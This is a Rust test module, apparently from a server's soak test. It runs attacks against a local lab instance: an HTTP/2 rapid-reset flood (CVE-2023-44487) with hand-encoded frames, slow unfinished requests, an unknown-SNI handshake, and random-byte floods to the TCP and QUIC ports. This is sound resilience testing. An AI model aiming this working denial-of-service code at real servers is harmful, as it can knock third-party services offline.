//! The attacks that run during the soak test.

use super::Lab;
use super::traffic::Outcome;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

const ATTACK_TIMEOUT: Duration = Duration::from_secs(10);

/// Runs all attacks in rounds. Returns the number of rounds and the attacks with an unexpected end.
pub(super) async fn all(lab: Arc<Lab>) -> (u64, Vec<String>) {
    let (mut rounds, mut wrong) = (0, Vec::new());
    let mut slow = Vec::new();
    while !lab.over() {
        for (name, ended) in [
            ("rapid reset", tokio::time::timeout(ATTACK_TIMEOUT, rapid_reset(&lab)).await),
            ("an unknown name", tokio::time::timeout(ATTACK_TIMEOUT, unknown(&lab)).await),
            ("garbage", tokio::time::timeout(ATTACK_TIMEOUT, garbage(&lab, rounds)).await),
        ] {
            match ended {
                Ok(Ok(())) => {}
                Ok(Err(why)) => wrong.push(format!("{name}: {why}")),
                Err(_) => wrong.push(format!("{name}: it went on")),
            }
        }
        // Clients that never finish their request; the oldest are closed.
        for _ in 0..5 {
            if let Ok(mut stream) = TcpStream::connect(lab.plain).await {
                let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: a.te").await;
                slow.push(stream);
            }
        }
        slow.drain(..slow.len().saturating_sub(40));
        rounds += 1;
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    (rounds, wrong)
}

/// Sends requests and resets them at once, until the connection is closed (CVE-2023-44487).
async fn rapid_reset(lab: &Lab) -> Outcome<()> {
    let stream = TcpStream::connect(lab.tls).await?;
    let connector = tokio_rustls::TlsConnector::from(lab.client(&[b"h2"]));
    let stream = connector.connect("a.test".try_into()?, stream).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    // GET, https, /, and the authority as a literal.
    let block = b"\x82\x87\x84\x01\x06a.test";
    let reading =
        tokio::spawn(async move { while !matches!(read.read(&mut [0; 4096]).await, Ok(0) | Err(_)) {} });
    for n in 0..20_000u32 {
        let stream = (2 * n + 1).to_be_bytes();
        let frames =
            [&[0, 0, block.len() as u8, 1, 5][..], &stream, block, &[0, 0, 4, 3, 0], &stream, &[0, 0, 0, 8]];
        if write.write_all(&frames.concat()).await.is_err() {
            return Ok(());
        }
        if n % 100 == 0 {
            write.flush().await.ok();
            tokio::task::yield_now().await;
            if reading.is_finished() {
                return Ok(());
            }
        }
    }
    reading.await?;
    Ok(())
}

/// Expects no response, not a single byte.
async fn unknown(lab: &Lab) -> Outcome<()> {
    let stream = TcpStream::connect(lab.tls).await?;
    let connector = tokio_rustls::TlsConnector::from(lab.client(&[b"http/1.1"]));
    match connector.connect("unknown.test".try_into()?, stream).await {
        Ok(_) => Err("it was served".into()),
        Err(_) => Ok(()),
    }
}

/// Sends random bytes to every port.
async fn garbage(lab: &Lab, round: u64) -> Outcome<()> {
    let mut state = round.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut bytes = || -> Vec<u8> {
        let next = |_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        };
        (0..1300).map(next).collect()
    };
    for address in [lab.plain, lab.tls] {
        let mut stream = TcpStream::connect(address).await?;
        let _ = stream.write_all(&bytes()).await;
        let _ = stream.shutdown().await;
        // A reset ends the connection too.
        let _ = stream.read_to_end(&mut Vec::new()).await;
    }
    let socket = UdpSocket::bind("127.0.0.1:0").await?;
    for first in [0xc3, 0xff, 0x40, 0x00] {
        let mut datagram = bytes();
        datagram[0] = first;
        // Packets of version 1 get further.
        datagram[1..5].copy_from_slice(&[0, 0, 0, u8::from(first == 0xc3)]);
        socket.send_to(&datagram, lab.tls).await?;
    }
    Ok(())
}
